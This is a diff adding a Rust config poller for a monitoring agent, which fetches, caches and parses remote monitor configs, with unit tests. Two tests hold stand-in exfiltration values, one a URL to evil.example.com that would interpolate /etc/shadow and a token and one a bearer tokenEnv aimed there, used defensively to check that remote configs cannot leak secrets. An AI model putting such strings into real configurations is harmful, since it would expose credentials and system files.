@@ -0,0 +1,384 @@
+use reqwest::Client;
+use reqwest::header::{CONTENT_TYPE, ETAG, IF_MODIFIED_SINCE, IF_NONE_MATCH, LAST_MODIFIED};
+use serde::{Deserialize, Serialize};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use tokio::sync::mpsc;
+use tokio::time::{Duration, sleep};
+use tracing::{error, info, warn};
+
+use crate::config::{ConfigFormat, parse_config_text};
+use crate::utils::{Config, state_dir};
+
+const DEFAULT_POLL_INTERVAL_SECS: u64 = 60;
+/// File name of the cache inside the state directory
+const CACHE_FILE: &str = "config-cache.json";
+
+/// Last successfully fetched config, persisted so the agent can start while the endpoint is down.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct CachedConfig {
+	url: String,
+	etag: Option<String>,
+	last_modified: Option<String>,
+	format: ConfigFormat,
+	body: String,
+}
+
+impl CachedConfig {
+	fn parse(&self) -> Result<Config, String> {
+		// Remote configs are never interpolated, so they cannot exfiltrate local secrets
+		parse_config_text(&self.body, self.format, &self.url, false).map_err(|e| e.to_string())
+	}
+
+	fn load(path: &Path, url: &str) -> Option<Self> {
+		let text = std::fs::read_to_string(path).ok()?;
+		match serde_json::from_str::<CachedConfig>(&text) {
+			Ok(cached) if cached.url == url => Some(cached),
+			Ok(_) => None,
+			Err(e) => {
+				warn!("Ignoring unreadable config cache {}: {}", path.display(), e);
+				None
+			}
+		}
+	}
+
+	fn save(&self, path: &Path) {
+		let result = serde_json::to_string(self)
+			.map_err(|e| e.to_string())
+			.and_then(|json| {
+				if let Some(dir) = path.parent() {
+					std::fs::create_dir_all(dir).map_err(|e| e.to_string())?;
+				}
+				std::fs::write(path, json).map_err(|e| e.to_string())
+			});
+		if let Err(e) = result {
+			warn!("Failed to write config cache {}: {}", path.display(), e);
+		}
+	}
+}
+
+enum FetchOutcome {
+	NotModified,
+	Updated(CachedConfig),
+}
+
+/// Parse a header list such as `PULSE_CONFIG_HEADERS` or `PULSE_WS_HEADERS` ("Name: value; Other: value").
+pub fn parse_headers(raw: &str) -> Vec<(String, String)> {
+	raw
+		.split(';')
+		.filter_map(|entry| {
+			let (name, value) = entry.split_once(':')?;
+			let name = name.trim();
+			if name.is_empty() {
+				return None;
+			}
+			Some((name.to_string(), value.trim().to_string()))
+		})
+		.collect()
+}
+
+/// Pick the format from the Content-Type header, then the URL extension, then the body itself.
+fn detect_format(content_type: Option<&str>, url: &str, body: &str) -> ConfigFormat {
+	if let Some(format) = content_type.and_then(ConfigFormat::from_content_type) {
+		return format;
+	}
+
+	let path = url.split(['?', '#']).next().unwrap_or(url);
+	if Path::new(path).extension().is_some() {
+		return ConfigFormat::from_path(Path::new(path));
+	}
+
+	if body.trim_start().starts_with('{') {
+		ConfigFormat::Json
+	} else {
+		ConfigFormat::Toml
+	}
+}
+
+/// Polls an HTTP endpoint for monitor configuration
+pub struct ConfigPoller {
+	url: String,
+	headers: Vec<(String, String)>,
+	poll_interval: Duration,
+	cache_path: PathBuf,
+	client: Client,
+}
+
+impl ConfigPoller {
+	/// Build a poller from `PULSE_CONFIG_URL` and related variables, if configured.
+	pub fn from_env() -> Option<Self> {
+		let url = std::env::var("PULSE_CONFIG_URL")
+			.ok()
+			.filter(|u| !u.is_empty())?;
+
+		let poll_interval = std::env::var("PULSE_CONFIG_POLL_INTERVAL")
+			.ok()
+			.and_then(|v| v.parse().ok())
+			.filter(|secs| *secs > 0)
+			.unwrap_or(DEFAULT_POLL_INTERVAL_SECS);
+
+		let headers = std::env::var("PULSE_CONFIG_HEADERS")
+			.map(|raw| parse_headers(&raw))
+			.unwrap_or_default();
+
+		let cache_path = std::env::var("PULSE_CONFIG_CACHE")
+			.ok()
+			.filter(|p| !p.is_empty())
+			.map(PathBuf::from)
+			.unwrap_or_else(|| state_dir().join(CACHE_FILE));
+
+		let client = Client::builder()
+			.hickory_dns(true)
+			.timeout(Duration::from_secs(30))
+			.build()
+			.expect("Failed to build HTTP client");
+
+		Some(ConfigPoller {
+			url,
+			headers,
+			poll_interval: Duration::from_secs(poll_interval),
+			cache_path,
+			client,
+		})
+	}
+
+	pub fn url(&self) -> &str {
+		&self.url
+	}
+
+	/// Start polling and return a receiver for config updates
+	pub async fn start(self: Arc<Self>) -> mpsc::Receiver<Config> {
+		let (tx, rx) = mpsc::channel::<Config>(32);
+
+		tokio::spawn(async move {
+			self.poll_loop(tx).await;
+		});
+
+		rx
+	}
+
+	async fn poll_loop(&self, config_tx: mpsc::Sender<Config>) {
+		let mut cached = CachedConfig::load(&self.cache_path, &self.url);
+		let mut current: Option<Config> = None;
+
+		loop {
+			let next = match self.fetch(cached.as_ref()).await {
+				Ok(FetchOutcome::Updated(fetched)) => match fetched.parse() {
+					Ok(config) => {
+						fetched.save(&self.cache_path);
+						cached = Some(fetched);
+						Some(config)
+					}
+					Err(e) => {
+						error!(
+							"Fetched config is invalid, keeping previous configuration: {}",
+							e
+						);
+						None
+					}
+				},
+				Ok(FetchOutcome::NotModified) => None,
+				Err(e) => {
+					warn!("Failed to fetch config from {}: {}", self.url, e);
+					None
+				}
+			};
+
+			// Fall back to the cached copy until a config has been applied
+			let next = next.or_else(|| {
+				if current.is_some() {
+					return None;
+				}
+				let cached = cached.as_ref()?;
+				match cached.parse() {
+					Ok(config) => {
+						info!("Using cached config from {}", self.cache_path.display());
+						Some(config)
+					}
+					Err(e) => {
+						error!("Cached config is invalid: {}", e);
+						None
+					}
+				}
+			});
+
+			if let Some(config) = next
+				&& current.as_ref() != Some(&config)
+			{
+				if let Err(e) = config_tx.send(config.clone()).await {
+					error!("Failed to send config update: {}", e);
+					return;
+				}
+				current = Some(config);
+			}
+
+			sleep(self.poll_interval).await;
+		}
+	}
+
+	async fn fetch(&self, cached: Option<&CachedConfig>) -> Result<FetchOutcome, String> {
+		let mut request = self.client.get(&self.url);
+
+		for (name, value) in &self.headers {
+			request = request.header(name, value);
+		}
+
+		if let Some(cached) = cached {
+			if let Some(etag) = &cached.etag {
+				request = request.header(IF_NONE_MATCH, etag);
+			}
+			if let Some(last_modified) = &cached.last_modified {
+				request = request.header(IF_MODIFIED_SINCE, last_modified);
+			}
+		}
+
+		let response = request.send().await.map_err(|e| e.to_string())?;
+
+		if response.status() == reqwest::StatusCode::NOT_MODIFIED {
+			return Ok(FetchOutcome::NotModified);
+		}
+		if !response.status().is_success() {
+			return Err(format!("Request failed with status: {}", response.status()));
+		}
+
+		let header = |name| {
+			response
+				.headers()
+				.get(name)
+				.and_then(|v| v.to_str().ok())
+				.map(str::to_string)
+		};
+		let etag = header(ETAG);
+		let last_modified = header(LAST_MODIFIED);
+		let content_type = header(CONTENT_TYPE);
+
+		let body = response.text().await.map_err(|e| e.to_string())?;
+		let format = detect_format(content_type.as_deref(), &self.url, &body);
+
+		Ok(FetchOutcome::Updated(CachedConfig {
+			url: self.url.clone(),
+			etag,
+			last_modified,
+			format,
+			body,
+		}))
+	}
+}
+
+#[cfg(test)]
+mod tests {
+	use super::*;
+
+	#[test]
+	fn test_parse_headers() {
+		assert_eq!(
+			parse_headers("Authorization: Bearer abc; X-Team: ops ;invalid"),
+			vec![
+				("Authorization".to_string(), "Bearer abc".to_string()),
+				("X-Team".to_string(), "ops".to_string()),
+			]
+		);
+		assert!(parse_headers("").is_empty());
+	}
+
+	#[test]
+	fn test_remote_config_is_not_interpolated() {
+		let cached = CachedConfig {
+			url: "https://config.example.com/monitors.toml".to_string(),
+			etag: None,
+			last_modified: None,
+			format: ConfigFormat::Toml,
+			body: r#"
+				[[monitors]]
+				enabled = true
+				name = "API"
+				interval = 30
+				http = { method = "GET", url = "https://evil.example.com/?k=${file:/etc/shadow}&t=${PULSE_TOKEN}" }
+			"#
+			.to_string(),
+		};
+
+		let config = cached.parse().unwrap();
+		assert_eq!(
+			config.monitors[0].http.as_ref().unwrap().url,
+			"https://evil.example.com/?k=${file:/etc/shadow}&t=${PULSE_TOKEN}"
+		);
+	}
+
+	#[test]
+	fn test_remote_config_rejects_token_env() {
+		let cached = CachedConfig {
+			url: "https://config.example.com/monitors.toml".to_string(),
+			etag: None,
+			last_modified: None,
+			format: ConfigFormat::Toml,
+			body: r#"
+				[[monitors]]
+				enabled = true
+				name = "API"
+				interval = 30
+
+				[[monitors.httpSteps.steps]]
+				method = "GET"
+				url = "https://evil.example.com/"
+				auth = { type = "bearer", tokenEnv = "PULSE_TOKEN" }
+			"#
+			.to_string(),
+		};
+
+		let error = cached.parse().unwrap_err();
+		assert!(error.contains("'tokenEnv' (PULSE_TOKEN)"), "{}", error);
+	}
+
+	#[test]
+	fn test_detect_format() {
+		assert_eq!(
+			detect_format(
+				Some("application/json; charset=utf-8"),
+				"https://x/config",
+				""
+			),
+			ConfigFormat::Json
+		);
+		assert_eq!(
+			detect_format(Some("application/toml"), "https://x/config.json", ""),
+			ConfigFormat::Toml
+		);
+		assert_eq!(
+			detect_format(Some("text/plain"), "https://x/monitors.yaml?team=ops", ""),
+			ConfigFormat::Yaml
+		);
+		assert_eq!(
+			detect_format(None, "https://x/config", " {\"monitors\": []}"),
+			ConfigFormat::Json
+		);
+		assert_eq!(
+			detect_format(None, "https://x/config", "[[monitors]]"),
+			ConfigFormat::Toml
+		);
+	}
+
+	#[test]
+	fn test_cache_roundtrip() {
+		let dir = std::env::temp_dir().join(format!("pulse_test_cache_{}", std::process::id()));
+		let _ = std::fs::remove_dir_all(&dir);
+		// The state directory is created on the first save
+		let path = dir.join(CACHE_FILE);
+		let cached = CachedConfig {
+			url: "https://inventory/config".to_string(),
+			etag: Some("\"v1\"".to_string()),
+			last_modified: None,
+			format: ConfigFormat::Json,
+			body: r#"{"monitors": [{"enabled": true, "name": "A", "interval": 30}]}"#.to_string(),
+		};
+		cached.save(&path);
+
+		let loaded = CachedConfig::load(&path, "https://inventory/config").unwrap();
+		assert_eq!(loaded, cached);
+		assert_eq!(loaded.parse().unwrap().monitors[0].name, "A");
+		assert!(CachedConfig::load(&path, "https://other/config").is_none());
+
+		let _ = std::fs::remove_dir_all(dir);
+	}
+}